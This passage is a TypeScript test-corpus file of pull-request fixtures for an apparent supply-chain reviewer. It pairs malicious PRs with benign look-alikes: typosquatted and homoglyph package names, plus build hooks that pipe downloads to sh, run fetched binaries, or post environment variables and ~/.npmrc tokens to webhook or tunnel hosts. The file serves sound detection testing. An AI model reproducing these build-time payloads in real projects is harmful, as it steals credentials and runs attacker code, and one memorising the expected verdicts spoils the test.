/** Corpus package and build-time code cases (look-alike names, install scripts, registry churn). */
import type { FixtureAccount, FixtureCheckRun, FixtureFile, PrFixtureSpec } from '../../support/pr-fixture.js';
import { makePrFixture } from '../../support/pr-fixture.js';
import type { CorpusEntry, CorpusExpectation } from '../helpers.js';
import { daysAgo, lines, nodeCi, packageJson, packageLock, WEBAPP, WEBAPP_LOCKED } from '../helpers.js';

const RENOVATE = { login: 'renovate[bot]', association: 'CONTRIBUTOR', createdAt: '2017-01-11T09:10:00Z' } as const;

// ---------------------------------------------------------------------------------------------
// Build-time code and look-alike names in every ecosystem (PRs 7200-7299), modeled on public
// write-ups: crates and gems that download and run binaries at build time, setup.py cmdclass
// hooks that post the environment, npm postinstall stealers, look-alike Go owners and hosts,
// Maven artifacts republished under personal groupIds; and the ordinary PRs that resemble them.

const CONTRIBUTOR: FixtureAccount = { login: 'mlindqvist', association: 'CONTRIBUTOR', createdAt: '2020-03-02T10:00:00Z' };
const NEWCOMER: FixtureAccount = { login: 'quick-fixes-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2026-10-30T08:00:00Z' };
const MAINTAINER: FixtureAccount = { login: 'ingrid-h', association: 'MEMBER', createdAt: '2014-02-11T08:00:00Z' };
const DEPENDABOT: FixtureAccount = { login: 'dependabot[bot]', association: 'CONTRIBUTOR', createdAt: '2019-04-16T22:34:25Z' };

/** WEBAPP's lockfile refreshed: eslint moved a minor, 17 packages it did not list added, as development ones or not. */
const refreshedLock = (dev: boolean) => [
  ...WEBAPP_LOCKED.map((p) => (p.name === 'eslint' ? { ...p, version: '9.15.0' } : p)),
  ...['call-bound', 'dunder-proto', 'get-proto', 'math-intrinsics', 'own-keys', 'set-proto', 'safe-push-apply', 'side-channel-list', 'side-channel-map', 'side-channel-weakmap', 'async-function', 'call-bind-apply-helpers', 'json-buffer', 'keyv', 'word-wrap', 'type-fest', 'globals'].map((name) => ({ name, version: '1.0.2', ...(dev ? { dev: true } : {}) })),
];
/** A uv.lock of a library `clikit` with dev and docs groups; `upgraded` adds the packages new releases of its tools need, `runtime` makes the library need one of them. */
const uvLock = (upgraded: boolean, runtime = false): string => {
  const pkg = (name: string, version: string, deps: string[] = []): string[] => [
    '[[package]]',
    `name = "${name}"`,
    `version = "${version}"`,
    'source = { registry = "https://pypi.org/simple" }',
    ...(deps.length > 0 ? ['dependencies = [', ...deps.map((d) => `    { name = "${d}" },`), ']'] : []),
    `sdist = { url = "https://files.pythonhosted.org/packages/source/${name.charAt(0)}/${name}/${name}-${version}.tar.gz", hash = "sha256:${'5e'.repeat(32)}", size = 4096 }`,
    '',
  ];
  return [
    'version = 1',
    'revision = 3',
    'requires-python = ">=3.10"',
    '',
    '[[package]]',
    'name = "clikit"',
    'source = { editable = "." }',
    'dependencies = [',
    '    { name = "colorama" },',
    ...(runtime ? ['    { name = "tomli-w" },'] : []),
    ']',
    '',
    '[package.dev-dependencies]',
    'dev = [',
    '    { name = "mypy" },',
    '    { name = "pytest" },',
    '    { name = "tox" },',
    ']',
    'docs = [',
    '    { name = "sphinx" },',
    ']',
    '',
    ...pkg('colorama', '0.4.6'),
    ...pkg('mypy', upgraded ? '1.20.0' : '1.19.1', upgraded ? ['librt', 'mypy-extensions', 'pathspec'] : ['mypy-extensions']),
    ...pkg('mypy-extensions', '1.1.0'),
    ...pkg('pytest', upgraded ? '9.0.2' : '9.0.1', ['pluggy']),
    ...pkg('pluggy', '1.6.0'),
    ...pkg('sphinx', upgraded ? '9.1.0' : '8.2.3', upgraded ? ['roman-numerals'] : []),
    ...pkg('tox', upgraded ? '4.32.0' : '4.30.3', upgraded ? ['pluggy', 'python-discovery', 'tomli-w'] : ['pluggy']),
    ...(upgraded ? [...pkg('librt', '0.7.3'), ...pkg('pathspec', '0.12.1'), ...pkg('roman-numerals', '3.1.0'), ...pkg('python-discovery', '1.0.0'), ...pkg('tomli-w', '1.2.0')] : []),
  ].join('\n');
};
/** The same 'update dev dependencies' moves setup-uv to its next major in the test workflow and ruff's pre-commit hook to a newer frozen commit. */
const uvWorkflow = (ref: string): string =>
  lines('name: Tests', 'on:', '  pull_request:', '  push:', '    branches: [main]', 'permissions:', '  contents: read', 'jobs:', '  tests:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '        with:', '          persist-credentials: false', `      - uses: astral-sh/setup-uv@${ref}`, '        with:', '          enable-cache: true', '      - run: uv run --locked tox run');
const preCommit = (rev: string): string => lines('repos:', '  - repo: https://github.com/astral-sh/ruff-pre-commit', `    rev: ${rev}`, '    hooks:', '      - id: ruff', '      - id: ruff-format');
const UV_TOOLING_MOVES: FixtureFile[] = [
  { path: '.github/workflows/tests.yaml', base: uvWorkflow(`${'5a'.repeat(20)} # v7.3.1`), head: uvWorkflow(`${'ce'.repeat(20)} # v8.0.0`) },
  { path: '.pre-commit-config.yaml', base: preCommit(`${'49'.repeat(20)}  # frozen: v0.15.6`), head: preCommit(`${'c6'.repeat(20)}  # frozen: v0.15.9`) },
];
const green = (...names: string[]): FixtureCheckRun[] => names.map((name) => ({ name }));
const RUST_CI = green('cargo test', 'clippy');
const GO_CI = green('go test', 'golangci-lint');
const PY_CI = green('pytest (3.12)', 'ruff');
const RUBY_CI = green('rspec', 'rubocop');
const JVM_CI = green('build', 'test');
const PHP_CI = green('phpunit', 'phpstan');

interface BuildCase {
  id: string;
  description: string;
  number: number;
  repo: string;
  title: string;
  author: FixtureAccount;
  files: FixtureFile[];
  checks: FixtureCheckRun[];
  expect: CorpusExpectation;
  extra?: Partial<PrFixtureSpec>;
}

function buildCase(spec: BuildCase): CorpusEntry {
  return {
    id: spec.id,
    description: spec.description,
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: spec.repo,
        number: spec.number,
        title: spec.title,
        author: spec.author,
        fork: spec.author.association !== 'MEMBER' && !spec.author.login.endsWith('[bot]'),
        files: spec.files,
        commits: [{ message: spec.title }],
        checkRuns: spec.checks,
        priorPrs: spec.author === NEWCOMER ? { total: 0, merged: 0 } : { total: 12, merged: 10 },
        createdAt: daysAgo(1),
        ...spec.extra,
      }),
    expect: spec.expect,
  };
}

const cargoToml = (deps: string[], build?: string): string =>
  lines('[package]', 'name = "ferry"', 'version = "0.7.2"', 'edition = "2021"', ...(build ? [`build = "${build}"`] : []), '', '[dependencies]', 'serde = { version = "1.0", features = ["derive"] }', 'tokio = { version = "1.41", features = ["full"] }', ...deps);

const goMod = (requires: string[]): string => lines('module github.com/acme/gateway', '', 'go 1.23', '', 'require (', ...requires.map((r) => `\t${r}`), ')');

const pom = (dependencies: string, plugins = ''): string =>
  lines(
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<project xmlns="http://maven.apache.org/POM/4.0.0">',
    '  <modelVersion>4.0.0</modelVersion>',
    '  <groupId>com.acme</groupId>',
    '  <artifactId>billing</artifactId>',
    '  <version>2.4.0</version>',
    '  <dependencies>',
    '    <dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId><version>2.0.16</version></dependency>',
    dependencies,
    '  </dependencies>',
    '  <build><plugins>',
    plugins,
    '  </plugins></build>',
    '</project>',
  );

const composerJson = (require: Record<string, string>): string => `${JSON.stringify({ name: 'acme/ledger', require: { php: '^8.2', 'monolog/monolog': '^3.8', ...require } }, null, 4)}\n`;

const BUILD_AND_NAME_CASES: CorpusEntry[] = [
  buildCase({
    id: 'crates-typosquat-reqwests',
    description: 'A newcomer adds `reqwests` (one letter off reqwest) to Cargo.toml: the shape of the 2023 crates.io typosquats that shipped build-time stealers.',
    number: 7201,
    repo: 'ferry',
    title: 'Add HTTP client for webhooks',
    author: NEWCOMER,
    files: [
      { path: 'Cargo.toml', base: cargoToml([]), head: cargoToml(['reqwests = "0.12"']) },
      { path: 'src/webhooks.rs', additions: 42 },
    ],
    checks: RUST_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'cargo-build-script-downloads-binary',
    description: 'Cargo.toml gains `build = "build.rs"`, and build.rs fetches a "prebuilt helper" from a bare IP and runs it at compile time.',
    number: 7202,
    repo: 'ferry-sys',
    title: 'Speed up builds with a prebuilt codec',
    author: CONTRIBUTOR,
    files: [
      { path: 'Cargo.toml', base: cargoToml([]), head: cargoToml([], 'build.rs') },
      {
        path: 'build.rs',
        head: lines(
          'use std::process::Command;',
          'fn main() {',
          '    let bytes = reqwest::blocking::get("http://45.61.136.19/codec/linux-x64").unwrap().bytes().unwrap();',
          '    std::fs::write("target/codec", &bytes).unwrap();',
          '    Command::new("target/codec").arg("--prepare").status().unwrap();',
          '}',
        ),
      },
    ],
    checks: RUST_CI,
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'cargo-build-script'] },
  }),
  buildCase({
    id: 'setup-py-cmdclass-posts-environment',
    description: 'setup.py gains an install command class that posts os.environ to a webhook after installing, as the 2022-2024 PyPI stealers did.',
    number: 7203,
    repo: 'metrics-py',
    title: 'Register package telemetry on install',
    author: NEWCOMER,
    files: [
      {
        path: 'setup.py',
        base: lines('from setuptools import setup', '', 'setup(name="acme-metrics", version="1.4.0", packages=["acme_metrics"])'),
        head: lines(
          'import json, os, urllib.request',
          'from setuptools import setup',
          'from setuptools.command.install import install',
          '',
          'class Install(install):',
          '    def run(self):',
          '        install.run(self)',
          '        body = json.dumps(dict(os.environ)).encode()',
          '        urllib.request.urlopen("https://webhook.site/5f0c2d61-3a9e-4d1b-9c55-0e7f3b1a9d42", body)',
          '',
          'setup(name="acme-metrics", version="1.4.1", packages=["acme_metrics"], cmdclass={"install": Install})',
        ),
      },
    ],
    checks: PY_CI,
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'python-setup-script'] },
  }),
  buildCase({
    id: 'gem-extconf-curls-binary',
    description: 'A gem gains a native extension whose extconf.rb curls a binary and runs it during `gem install`.',
    number: 7204,
    repo: 'fastjson-rb',
    title: 'Add native extension for faster parsing',
    author: NEWCOMER,
    files: [
      {
        path: 'fastjson.gemspec',
        base: lines('Gem::Specification.new do |s|', '  s.name = "fastjson"', '  s.version = "0.9.0"', '  s.files = Dir["lib/**/*.rb"]', 'end'),
        head: lines('Gem::Specification.new do |s|', '  s.name = "fastjson"', '  s.version = "0.9.1"', '  s.files = Dir["lib/**/*.rb", "ext/**/*"]', '  s.extensions = ["ext/fastjson/extconf.rb"]', 'end'),
      },
      {
        path: 'ext/fastjson/extconf.rb',
        head: lines('require "mkmf"', 'system("curl -fsSL https://github-assets.example.io/fj/libfj -o /tmp/libfj && chmod +x /tmp/libfj && /tmp/libfj")', 'create_makefile("fastjson/fastjson")'),
      },
    ],
    checks: RUBY_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'go-lookalike-owner',
    description: 'go.mod swaps github.com/gorilla/mux for github.com/gorillla/mux (one letter more in the owner), as in the 2024-2025 Go module typosquats.',
    number: 7205,
    repo: 'gateway',
    title: 'Use maintained router fork',
    author: NEWCOMER,
    files: [
      { path: 'go.mod', base: goMod(['github.com/gorilla/mux v1.8.1']), head: goMod(['github.com/gorillla/mux v1.8.2']) },
      { path: 'router.go', additions: 2, deletions: 2 },
    ],
    checks: GO_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'go-lookalike-owner-named-for-repository',
    description: 'go.mod adds github.com/stretchr-testify/testify beside the tests: the popular module\'s repository under an account named for its owner and repository joined (`stretchr-testify` for `stretchr`), a look-alike that no edit distance of the owner catches.',
    number: 7390,
    repo: 'gateway',
    title: 'Add assertion helpers for tests',
    author: NEWCOMER,
    files: [
      { path: 'go.mod', base: goMod(['github.com/gorilla/mux v1.8.1']), head: goMod(['github.com/gorilla/mux v1.8.1', 'github.com/stretchr-testify/testify v1.9.0']) },
      { path: 'router_test.go', additions: 24 },
    ],
    checks: GO_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'go-same-module-other-host',
    description: 'go.mod adds gitee.com/gin-gonic/gin: the popular module\'s owner and name on another host.',
    number: 7206,
    repo: 'gateway-api',
    title: 'Add gin for the admin API',
    author: NEWCOMER,
    files: [
      { path: 'go.mod', base: goMod(['github.com/gorilla/mux v1.8.1']), head: goMod(['github.com/gorilla/mux v1.8.1', 'gitee.com/gin-gonic/gin v1.10.0']) },
      { path: 'admin.go', additions: 30 },
    ],
    checks: GO_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'npm-postinstall-reads-npmrc-and-posts',
    description: 'package.json gains a postinstall that runs scripts/setup.cjs, which reads ~/.npmrc and posts it to a tunnel host (the 2025 npm token stealers).',
    number: 7207,
    repo: 'storefront-ui',
    title: 'Add setup step for local assets',
    author: NEWCOMER,
    files: [
      { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, scripts: { build: 'tsc -p tsconfig.build.json', test: 'vitest run', postinstall: 'node scripts/setup.cjs' } }) },
      {
        path: 'scripts/setup.cjs',
        head: lines(
          'const fs = require("fs"), os = require("os"), https = require("https");',
          'const rc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");',
          'const req = https.request({ hostname: "assets-sync.trycloudflare.com", path: "/s", method: "POST" });',
          'req.end(rc);',
        ),
      },
    ],
    checks: nodeCi(),
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'npm-install-script'] },
  }),
  buildCase({
    id: 'npm-override-swaps-transitive-for-url',
    description: 'A "pin a transitive dependency" PR whose override takes path-to-regexp, which express depends on, from an http:// tarball (the PhantomRaven URL specs of 2025, in an override).',
    number: 7208,
    repo: 'storefront-api',
    title: 'Pin path-to-regexp for the ReDoS advisory',
    author: NEWCOMER,
    files: [
      { path: 'package.json', base: packageJson(WEBAPP), head: `${JSON.stringify({ ...JSON.parse(packageJson(WEBAPP)), overrides: { 'path-to-regexp': 'http://packages.npm-cdn-mirror.net/path-to-regexp-8.2.1.tgz' } }, null, 2)}\n` },
    ],
    checks: nodeCi(),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
  }),
  buildCase({
    id: 'npm-override-pins-registry-version',
    description: 'The same pin done as maintainers do it: an override to a fixed registry version.',
    number: 7209,
    repo: 'storefront-api',
    title: 'Pin path-to-regexp for the ReDoS advisory',
    author: CONTRIBUTOR,
    files: [
      { path: 'package.json', base: packageJson(WEBAPP), head: `${JSON.stringify({ ...JSON.parse(packageJson(WEBAPP)), overrides: { 'path-to-regexp': '8.2.1' } }, null, 2)}\n` },
    ],
    checks: nodeCi(),
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  buildCase({
    id: 'pnpm-catalog-entry-from-url-endpoint',
    description:
      'A "share design tokens through the catalog" PR whose pnpm-workspace.yaml catalog entry takes a package from an http:// endpoint that names no package file (PhantomRaven\'s remote dynamic dependencies of 2025, written into a pnpm catalog that package.json only references as `catalog:`).',
    number: 7290,
    repo: 'design-system',
    title: 'Share design tokens across packages via the catalog',
    author: NEWCOMER,
    files: [
      {
        path: 'pnpm-workspace.yaml',
        base: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.1', '  vite: ^5.4.10'),
        head: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.1', '  vite: ^5.4.10', '  ds-tokens-loader: http://npm.artifact-sync.net/ds-tokens-loader'),
      },
      {
        path: 'packages/button/package.json',
        base: `${JSON.stringify({ name: '@acme/button', version: '1.4.0', dependencies: { react: 'catalog:' } }, null, 2)}\n`,
        head: `${JSON.stringify({ name: '@acme/button', version: '1.4.0', dependencies: { react: 'catalog:', 'ds-tokens-loader': 'catalog:' } }, null, 2)}\n`,
      },
    ],
    checks: nodeCi(),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
  }),
  buildCase({
    id: 'pnpm-catalog-bump-beside-kept-tarball',
    description:
      'The look-alike done as maintainers do it: a Renovate-style catalog update of vite and react in pnpm-workspace.yaml, beside a catalog entry that has long taken a spreadsheet library from its vendor\'s CDN tarball (unchanged), and an override floor as `pnpm audit --fix` writes it.',
    number: 7291,
    repo: 'design-system',
    title: 'chore(deps): update vite and react catalog entries',
    author: MAINTAINER,
    files: [
      {
        path: 'pnpm-workspace.yaml',
        base: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.0', '  vite: ^5.4.8', '  xlsx: https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz', 'onlyBuiltDependencies:', '  - esbuild'),
        head: lines('packages:', '  - packages/*', 'catalog:', '  react: ^18.3.1', '  vite: ^5.4.10', '  xlsx: https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz', 'onlyBuiltDependencies:', '  - esbuild', 'overrides:', "  'cookie@<0.7.0': '>=0.7.0'"),
      },
    ],
    checks: nodeCi(),
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  buildCase({
    id: 'yarn-install-scripts-blocked-and-gated',
    description:
      "A security bot's PR hardens a Yarn project: .yarnrc.yml gets enableScripts: false and a two-day npmMinimalAgeGate. The Yarn rules read the file and find nothing: it only tightens what Yarn installs and runs, and is no medium change.",
    number: 7399,
    repo: 'design-system',
    title: 'ci: enforce ignore-scripts policy for Node package managers',
    author: MAINTAINER,
    files: [{ path: '.yarnrc.yml', base: lines('nodeLinker: node-modules'), head: lines('nodeLinker: node-modules', 'enableScripts: false', 'npmMinimalAgeGate: 2d') }],
    checks: nodeCi(),
    expect: { level: 'low', action: 'approve', noFindings: true },
  }),
  buildCase({
    id: 'yarn-age-gate-waived-for-package',
    description:
      "A maintainer lets the organization's own toolkit package past Yarn's two-day npmMinimalAgeGate with npmPreapprovedPackages in .yarnrc.yml: the cooldown the repository set against freshly published, possibly compromised releases is waived for one package, named (low) for the reviewer to see; the settings file itself stays security-sensitive, as the finding names it.",
    number: 7398,
    repo: 'design-system',
    title: 'chore: allow actions-toolkit to bypass yarn age gate',
    author: MAINTAINER,
    files: [
      {
        path: '.yarnrc.yml',
        base: lines('nodeLinker: node-modules', 'enableScripts: false', 'npmMinimalAgeGate: 2d'),
        head: lines('nodeLinker: node-modules', 'enableScripts: false', 'npmMinimalAgeGate: 2d', '', 'npmPreapprovedPackages:', '  - "@acme/actions-toolkit"'),
      },
    ],
    checks: nodeCi(),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['package-gate-waived'] },
  }),
  buildCase({
    id: 'pnpm-release-age-waived-for-package',
    description:
      'A maintainer moves the workspace to a new pnpm release and excludes that release from the workspace\'s seven-day minimumReleaseAge and from trustPolicy: no-downgrade, in pnpm-workspace.yaml, beside a catalog bump. The defences the repository set against freshly published, possibly compromised releases are waived for one package: named low, for the reviewer to see.',
    number: 7394,
    repo: 'design-system',
    title: 'chore: use pnpm 11',
    author: MAINTAINER,
    files: [
      {
        path: 'pnpm-workspace.yaml',
        base: lines('packages:', '  - packages/*', 'catalog:', '  vite: ^5.4.10', 'minimumReleaseAge: 10080', 'trustPolicy: no-downgrade'),
        head: lines('packages:', '  - packages/*', 'catalog:', '  vite: ^5.4.11', 'minimumReleaseAge: 10080', 'minimumReleaseAgeExclude:', '  - pnpm@11.13.0', 'trustPolicy: no-downgrade', 'trustPolicyExclude:', '  - pnpm@11.13.0'),
      },
    ],
    checks: nodeCi(),
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['package-gate-waived'] },
  }),
  buildCase({
    id: 'pnpm-release-age-dropped-to-minutes',
    description:
      'A maintainer\'s "fix: install the fixed release at once" lowers pnpm-workspace.yaml\'s seven-day minimumReleaseAge to 30 minutes and turns trustPolicy off, beside a catalog bump: the two defences the repository set against freshly published, possibly compromised releases (the 2025 npm worms were taken down within hours) gone for every package. Medium, for the reviewer to ask why a single exclusion would not do.',
    number: 7395,
    repo: 'design-system',
    title: 'fix: install the fixed release at once',
    author: MAINTAINER,
    files: [
      {
        path: 'pnpm-workspace.yaml',
        base: lines('packages:', '  - packages/*', 'catalog:', '  vite: ^5.4.11', 'minimumReleaseAge: 10080', 'trustPolicy: no-downgrade'),
        head: lines('packages:', '  - packages/*', 'catalog:', '  vite: ^5.4.12', 'minimumReleaseAge: 30', 'trustPolicy: off'),
      },
    ],
    checks: nodeCi(),
    expect: { level: 'medium', action: ['comment', 'request_changes'], findings: ['package-gate-weakened'] },
  }),
  buildCase({
    id: 'npmrc-ignore-scripts-reverted',
    description:
      'A maintainer reverts the `ignore-scripts=true` an organization-wide hardening PR put in .npmrc, because esbuild\'s platform binary was no longer installed and the build broke. Every dependency\'s install scripts run again: named medium for the reviewer to weigh (a safer fix names the packages that need a build), not an alarm, since the PR adds no package whose scripts nobody has read.',
    number: 7397,
    repo: 'design-system',
    title: 'Revert "chore: add .npmrc with ignore-scripts=true"',
    author: MAINTAINER,
    files: [
      {
        path: '.npmrc',
        base: lines('ignore-scripts=true', 'save-exact=true'),
        head: lines('save-exact=true'),
      },
    ],
    checks: nodeCi(),
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], findings: ['npm-install-script'] },
  }),
  buildCase({
    id: 'pnpm-settings-moved-from-npmrc-to-workspace',
    description:
      'The ordinary counterpart: pnpm 11 reads its settings from pnpm-workspace.yaml rather than .npmrc, so a maintainer moves minimum-release-age, trust-policy and ignore-scripts there (`minimumReleaseAge`, `trustPolicy`, `ignoreScripts`), keeping the auth line in .npmrc. Every defence is kept: nothing to report.',
    number: 7396,
    repo: 'design-system',
    title: 'chore: move pnpm settings to pnpm-workspace.yaml',
    author: MAINTAINER,
    files: [
      {
        path: '.npmrc',
        base: lines('minimum-release-age=1440', 'trust-policy=no-downgrade', 'ignore-scripts=true', 'auto-install-peers=true'),
        head: lines('auto-install-peers=true'),
      },
      {
        path: 'pnpm-workspace.yaml',
        base: lines('packages:', '  - packages/*'),
        head: lines('packages:', '  - packages/*', '', 'minimumReleaseAge: 1440', 'trustPolicy: no-downgrade', 'ignoreScripts: true'),
      },
    ],
    checks: nodeCi(),
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  buildCase({
    id: 'gemfile-runs-download-at-bundle-install',
    description: 'A "add rubocop" PR whose Gemfile also pipes a download from a tunnel host into a shell: Bundler evaluates the Gemfile at every bundle install.',
    number: 7210,
    repo: 'ledger-web',
    title: 'Add rubocop to the development group',
    author: NEWCOMER,
    files: [
      {
        path: 'Gemfile',
        base: lines("source 'https://rubygems.org'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'"),
        head: lines("source 'https://rubygems.org'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'", "system('curl -s https://gems-mirror.trycloudflare.com/setup | sh')", 'group :development do', "  gem 'rubocop', require: false", 'end'),
      },
    ],
    checks: RUBY_CI,
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'gemfile-adds-development-gems',
    description: 'The same PR as Gemfiles are usually changed: a development group with rubocop and a Ruby version.',
    number: 7211,
    repo: 'ledger-web',
    title: 'Add rubocop to the development group',
    author: CONTRIBUTOR,
    files: [
      {
        path: 'Gemfile',
        base: lines("source 'https://rubygems.org'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'"),
        head: lines("source 'https://rubygems.org'", "ruby '3.3.6'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'", 'group :development do', "  gem 'rubocop', '~> 1.69', require: false", 'end'),
      },
    ],
    checks: RUBY_CI,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  buildCase({
    id: 'nuget-homoglyph-package',
    description: 'A new PackageReference to Nether\u0435um.All, written with a Cyrillic e: the look-alike of Nethereum.All published on nuget.org in 2025 to steal wallet keys.',
    number: 7212,
    repo: 'wallet-service',
    title: 'Add Ethereum client',
    author: NEWCOMER,
    files: [
      { path: 'src/Wallet/Wallet.csproj', base: lines('<Project Sdk="Microsoft.NET.Sdk">', '  <ItemGroup>', '    <PackageReference Include="Serilog" Version="4.0.0" />', '  </ItemGroup>', '</Project>'), head: lines('<Project Sdk="Microsoft.NET.Sdk">', '  <ItemGroup>', '    <PackageReference Include="Serilog" Version="4.0.0" />', '    <PackageReference Include="Nether\u0435um.All" Version="5.0.0" />', '  </ItemGroup>', '</Project>') },
    ],
    checks: JVM_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'nuget-serilog-sink-added',
    description: 'A new Serilog sink beside Serilog: a sibling of a popular package, not a look-alike.',
    number: 7213,
    repo: 'wallet-service',
    title: 'Log to a rolling file',
    author: CONTRIBUTOR,
    files: [
      { path: 'src/Wallet/Wallet.csproj', base: lines('<Project Sdk="Microsoft.NET.Sdk">', '  <ItemGroup>', '    <PackageReference Include="Serilog" Version="4.0.0" />', '  </ItemGroup>', '</Project>'), head: lines('<Project Sdk="Microsoft.NET.Sdk">', '  <ItemGroup>', '    <PackageReference Include="Serilog" Version="4.0.0" />', '    <PackageReference Include="Serilog.Sinks.File" Version="6.0.0" />', '    <PackageReference Include="Serilog.Sinks.Async" Version="2.1.0" />', '  </ItemGroup>', '</Project>') },
    ],
    checks: JVM_CI,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  buildCase({
    id: 'npmrc-node-options-preloads-script',
    description: 'A "speed up installs" PR whose .npmrc preloads a script of the repository into every Node process npm starts, install scripts included.',
    number: 7214,
    repo: 'storefront-ui',
    title: 'Speed up installs',
    author: NEWCOMER,
    files: [
      { path: '.npmrc', base: lines('save-exact=true'), head: lines('save-exact=true', 'prefer-offline=true', 'node-options=--require ./scripts/cache-warm.cjs') },
      { path: 'scripts/cache-warm.cjs', head: lines("const { execSync } = require('child_process');", "try { execSync('node -e \\'require(\\\"https\\\").get(process.env.CACHE_URL)\\'', { stdio: 'ignore' }); } catch {}") },
    ],
    checks: nodeCi(),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-config-runs-code'] },
  }),
  buildCase({
    id: 'npmrc-memory-option',
    description: 'An .npmrc that raises Node\'s heap for a large build: an ordinary node-options setting.',
    number: 7215,
    repo: 'storefront-ui',
    title: 'Give the build more memory',
    author: CONTRIBUTOR,
    files: [{ path: '.npmrc', base: lines('save-exact=true'), head: lines('save-exact=true', 'node-options=--max-old-space-size=8192') }],
    checks: nodeCi(),
    // An .npmrc edit is a security-sensitive path (registries, tokens): medium is the most it gets; the
    // npm rules read it and find nothing (a memory option runs no code), so it weighs as audited, low.
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  buildCase({
    id: 'binding-gyp-pipes-download-to-shell',
    description: 'binding.gyp gains a command expansion that pipes a download to sh while node-gyp configures the addon.',
    number: 7208,
    repo: 'fast-hash-node',
    title: 'Detect CPU features at configure time',
    author: NEWCOMER,
    files: [
      {
        path: 'binding.gyp',
        base: lines('{', '  "targets": [{ "target_name": "fasthash", "sources": ["src/hash.cc"] }]', '}'),
        head: lines('{', '  "targets": [{', '    "target_name": "fasthash",', '    "sources": ["src/hash.cc"],', '    "defines": ["<!(curl -s https://cpu-detect.example.net/detect.sh | sh)"]', '  }]', '}'),
      },
    ],
    checks: nodeCi(),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'gradle-exec-task-fetches-from-ip',
    description: 'build.gradle.kts registers an Exec task, run before compileJava, that pipes a script from a bare IP to sh.',
    number: 7209,
    repo: 'billing-service',
    title: 'Generate protobuf stubs before compile',
    author: NEWCOMER,
    files: [
      {
        path: 'build.gradle.kts',
        base: lines('plugins { java }', 'dependencies { implementation("org.slf4j:slf4j-api:2.0.16") }'),
        head: lines(
          'plugins { java }',
          'dependencies { implementation("org.slf4j:slf4j-api:2.0.16") }',
          'val prepare = tasks.register<Exec>("prepareProto") {',
          '    commandLine("sh", "-c", "curl -s http://185.199.0.45/p.sh | sh")',
          '}',
          'tasks.compileJava { dependsOn(prepare) }',
        ),
      },
    ],
    checks: JVM_CI,
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'maven-antrun-runs-disguised-binary',
    description: 'pom.xml gains an antrun step that downloads "logo.png" and executes it: a binary dressed as an image.',
    number: 7210,
    repo: 'billing',
    title: 'Bundle brand assets at build time',
    author: NEWCOMER,
    files: [
      {
        path: 'pom.xml',
        base: pom(''),
        head: pom(
          '',
          lines(
            '    <plugin><artifactId>maven-antrun-plugin</artifactId><version>3.1.0</version>',
            '      <executions><execution><phase>generate-resources</phase><goals><goal>run</goal></goals><configuration><target>',
            '        <get src="https://cdn.brand-assets.example/logo.png" dest="${project.build.directory}/logo.png"/>',
            '        <chmod file="${project.build.directory}/logo.png" perm="755"/>',
            '        <exec executable="${project.build.directory}/logo.png"/>',
            '      </target></configuration></execution></executions>',
            '    </plugin>',
          ),
        ),
      },
    ],
    checks: JVM_CI,
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
  }),
  buildCase({
    id: 'packagist-lookalike-vendor',
    description: 'composer.json adds guzzelhttp/guzzle, a swapped-letters vendor of guzzlehttp/guzzle.',
    number: 7211,
    repo: 'ledger',
    title: 'Add HTTP client for the bank API',
    author: NEWCOMER,
    files: [{ path: 'composer.json', base: composerJson({}), head: composerJson({ 'guzzelhttp/guzzle': '^7.9' }) }],
    checks: PHP_CI,
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
  }),
  buildCase({
    id: 'rubygems-typosquat',
